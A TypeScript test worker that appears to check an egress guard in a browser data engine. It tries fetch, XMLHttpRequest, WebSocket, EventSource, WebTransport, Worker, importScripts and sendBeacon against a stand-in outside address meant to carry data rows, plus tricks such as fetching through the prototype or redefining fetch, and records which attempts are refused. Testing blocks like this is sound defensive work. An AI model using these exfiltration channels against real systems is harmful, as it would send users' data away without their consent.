/** Tries from inside a guarded worker everything that could send rows away, and posts what happened. */
import '../../src/engine/egress-guard.ts';

const outside = 'https://192.0.2.1/rows';
const make = (name: string) => {
  const Made: unknown = Reflect.get(globalThis, name);
  if (typeof Made !== 'function') return 'not there';
  return Reflect.construct(Made, [outside]) as unknown;
};
const call = (method: unknown, owner: object): unknown =>
  typeof method === 'function' ? (Reflect.apply(method, owner, [outside]) as unknown) : 'not there';
const own = (path: string) => new URL(path, globalThis.location.href).href;

const attempts: Readonly<Record<string, () => unknown>> = {
  'fetch of another origin': () => fetch(outside),
  'fetch of a .wasm of another origin': () => fetch('https://192.0.2.1/duckdb-eh.wasm'),
  'fetch of an own page with rows in its address': () => fetch(own('/a.wasm?rows=1')),
  'fetch of an own page': () => fetch(own('/')),
  'fetch by the prototype': () => {
    const prototype: unknown = Object.getPrototypeOf(globalThis);
    const inherited: unknown = Reflect.get(Object(prototype), 'fetch', globalThis);
    return call(inherited, globalThis);
  },
  'putting fetch back': () => Reflect.defineProperty(globalThis, 'fetch', { value: 1 }),
  XMLHttpRequest: () => make('XMLHttpRequest'),
  WebSocket: () => make('WebSocket'),
  EventSource: () => make('EventSource'),
  WebTransport: () => make('WebTransport'),
  Worker: () => make('Worker'),
  importScripts: () => {
    return call(Reflect.get(globalThis, 'importScripts'), globalThis);
  },
  sendBeacon: () => {
    return call(Reflect.get(globalThis.navigator, 'sendBeacon'), globalThis.navigator);
  },
};

const outcome = async (attempt: () => unknown) => {
  try {
    return (await attempt()) === false ? 'refused' : 'done';
  } catch (fault) {
    const words = fault instanceof Error ? fault.message : String(fault);
    return words.startsWith('Refused') ? 'refused' : words;
  }
};

const outcomes: Record<string, string> = {};
for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = await outcome(attempt);
globalThis.postMessage(outcomes);
